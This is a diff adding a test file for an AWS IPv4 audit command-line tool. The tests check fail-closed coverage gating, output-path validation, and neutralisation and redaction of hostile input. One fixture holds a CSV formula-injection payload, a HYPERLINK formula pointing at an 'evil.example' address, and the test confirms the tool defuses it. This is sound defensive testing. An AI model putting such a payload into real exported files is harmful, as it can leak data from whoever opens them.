@@ -1,0 +1,189 @@
+// The gate never goes green without having looked, through the CLI against the AWS stand-in:
+// a scan that read nothing fails whatever the thresholds; a partial scan fails a gate unless the
+// user accepts partial coverage; the output path is proven before the first AWS call; what an
+// endpoint or a resource owner writes is neutralised and redacted in every file.
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import type { NetworkInterface } from '@aws-sdk/client-ec2';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { READ_ACTIONS } from '../../src/aws/sessionPolicy.js';
+import { SAMPLE_MANAGEMENT, SAMPLE_MEMBER, sampleOrg } from '../../test-support/aws/sampleOrg.js';
+import { startAwsStandIn, type AwsStandIn } from '../../test-support/aws/startAwsStandIn.js';
+import { runCliWith } from './cliRunner.js';
+
+let aws: AwsStandIn;
+let scratch: string;
+
+beforeAll(async () => {
+  aws = await startAwsStandIn({ fixture: sampleOrg() });
+  scratch = await mkdtemp(path.join(os.tmpdir(), 'ipv4-audit-fail-closed-'));
+});
+afterAll(async () => {
+  await aws.close();
+  await rm(scratch, { recursive: true, force: true });
+});
+afterEach(() => {
+  aws.setFaults({});
+  aws.resetCounters();
+});
+
+/** Every EC2 and Global Accelerator call the scan makes, refused in `account`. */
+const denyEverything = (account: string) =>
+  READ_ACTIONS.map((action) => ({ account, action: action.split(':')[1] ?? '' }));
+
+const json = (run: { files: Map<string, string> }) =>
+  JSON.parse(run.files.get('report.json') ?? '{}') as {
+    coverage: { planned: number; complete: number; reached: number };
+    gate: { passed: boolean; violations: { input: string; message: string }[] };
+  };
+
+describe('coverage is part of the verdict', () => {
+  it('a scan that read nothing exits 5, with no threshold set, and says so', async () => {
+    aws.setFaults({
+      assumeRoleDenied: [SAMPLE_MEMBER],
+      deny: denyEverything(SAMPLE_MANAGEMENT),
+    });
+    const run = await runCliWith(aws.env, ['run-multi-account']);
+    expect(run.code).toBe(5);
+    expect(run.stdout).toContain(
+      'Nothing was scanned: not one of the 2 planned account-regions could be read ' +
+        '(111111111111 all regions (ec2:DescribeRegions: UnauthorizedOperation), ' +
+        '222222222222 all regions (sts:AssumeRole: AccessDenied)). ' +
+        'Check the credentials, the member role and its permissions',
+    );
+    const report = json(run);
+    expect(report.coverage).toMatchObject({ planned: 2, complete: 0, reached: 0 });
+    expect(report.gate.passed).toBe(false);
+    expect(report.gate.violations.map((v) => v.input)).toEqual(['coverage']);
+  });
+
+  it('a partial scan fails a threshold gate by default, naming what it missed and the way out', async () => {
+    aws.setFaults({ assumeRoleDenied: [SAMPLE_MEMBER] });
+    const run = await runCliWith(aws.env, ['run-multi-account', '--max-high-suspicion', '10']);
+    expect(run.code).toBe(4);
+    expect(run.stdout).toContain(
+      'The scan is incomplete: 1 of 4 account-regions were not read completely: ' +
+        '222222222222 all regions (sts:AssumeRole: AccessDenied). A gate does not pass on what ' +
+        "it could not check; set 'fail-on-scan-errors' to false to accept partial coverage",
+    );
+    expect(run.stdout).toContain('Account-regions read completely              3 of 4\n');
+  });
+
+  it('fail-on-scan-errors false lets a partial scan pass the gate, still exiting 3', async () => {
+    aws.setFaults({ assumeRoleDenied: [SAMPLE_MEMBER] });
+    const run = await runCliWith(aws.env, [
+      'run-multi-account',
+      '--max-high-suspicion',
+      '10',
+      '--fail-on-scan-errors',
+      'false',
+    ]);
+    expect(run.code).toBe(3);
+    expect(json(run).gate.passed).toBe(true);
+    expect(json(run).coverage).toMatchObject({ planned: 4, complete: 3, reached: 3 });
+  });
+});
+
+describe('the output path is proven before any AWS call', () => {
+  it('refuses a path below a file, naming --output-path', async () => {
+    const file = path.join(scratch, 'a-file');
+    await writeFile(file, 'x');
+    const run = await runCliWith(
+      aws.env,
+      ['run-single-account', '--output-path', path.join(file, 'reports')],
+      { outputPath: false },
+    );
+    expect(run.code).toBe(2);
+    expect(run.stderr).toBe(
+      `aws-ipv4-audit: --output-path: '${path.join(file, 'reports')}' is below a file ('${file}')\n`,
+    );
+    expect(aws.counters.total()).toBe(0);
+  });
+
+  it('refuses a path that cannot be created, without hanging (/proc)', async () => {
+    const run = await runCliWith(aws.env, ['run-single-account', '--output-path', '/proc/x/y'], {
+      outputPath: false,
+    });
+    expect(run.code).toBe(2);
+    expect(run.stderr).toBe(
+      "aws-ipv4-audit: --output-path: cannot create '/proc/x' for '/proc/x/y': ENOENT\n",
+    );
+    expect(aws.counters.total()).toBe(0);
+  });
+
+  it('creates a missing path and leaves nothing but the reports in it', async () => {
+    const dir = path.join(scratch, 'new', 'nested');
+    const run = await runCliWith(
+      aws.env,
+      ['run-single-account', '--regions', 'us-east-1', '--output-path', dir],
+      { outputPath: false },
+    );
+    expect(run.code).toBe(0);
+    const names = await readdir(dir);
+    expect(names).toHaveLength(10);
+    expect(names.every((name) => /^\d+_[a-z_]+\.(csv|json|html)$/.test(name))).toBe(true);
+  });
+});
+
+describe('what others write stays inert in the files', () => {
+  it('neutralises a formula that lands in InterfaceType from a description', async () => {
+    const fixture = sampleOrg();
+    const region = fixture.accounts[0]?.regions['us-east-1'];
+    const template = region?.networkInterfaces?.[0] as NetworkInterface;
+    region?.networkInterfaces?.push({
+      ...structuredClone(template),
+      NetworkInterfaceId: 'eni-0f0000000000000ff',
+      Description: '=HYPERLINK("https://evil.example/?leak","Open") now',
+      Attachment: {
+        ...template.Attachment,
+        InstanceId: undefined,
+        InstanceOwnerId: '999999999999',
+      },
+      Association: { PublicIp: '54.210.99.99', IpOwnerId: 'amazon' },
+      PrivateIpAddresses: [
+        {
+          Primary: true,
+          PrivateIpAddress: '10.0.1.99',
+          Association: { PublicIp: '54.210.99.99', IpOwnerId: 'amazon' },
+        },
+      ],
+    });
+    const hostile = await startAwsStandIn({ fixture });
+    try {
+      const run = await runCliWith(hostile.env, ['run-single-account', '--regions', 'us-east-1']);
+      const row = run.files
+        .get('eni_public_ips.csv')
+        ?.split('\n')
+        .find((line) => line.includes('eni-0f0000000000000ff'));
+      // InterfaceType (7th) and Description are both neutralised.
+      expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?leak"",""Open"") now",`);
+      expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak"",""Open"") now",3.65`);
+      expect(row?.match(/,"?=/g)).toBeNull();
+    } finally {
+      await hostile.close();
+    }
+  });
+
+  it('replaces a credential quoted by an error message in every file', async () => {
+    const key = aws.env.AWS_ACCESS_KEY_ID ?? '';
+    aws.setFaults({
+      failNext: [
+        {
+          action: 'DescribeRouteTables',
+          code: 'AuthFailure',
+          message: `The key ${key} is not allowed here`,
+          times: 1,
+        },
+      ],
+    });
+    const run = await runCliWith(aws.env, ['run-single-account', '--regions', 'us-east-1']);
+    expect(run.code).toBe(3);
+    expect(run.files.get('scan_errors.csv')).toBe(
+      'AccountId,Region,Api,ErrorCode,Message\n' +
+        '111111111111,us-east-1,ec2:DescribeRouteTables,AuthFailure,The key *** is not allowed here\n',
+    );
+    for (const [name, text] of run.files) expect(text, name).not.toContain(key);
+    expect(run.stderr).not.toContain(key);
+  });
+});
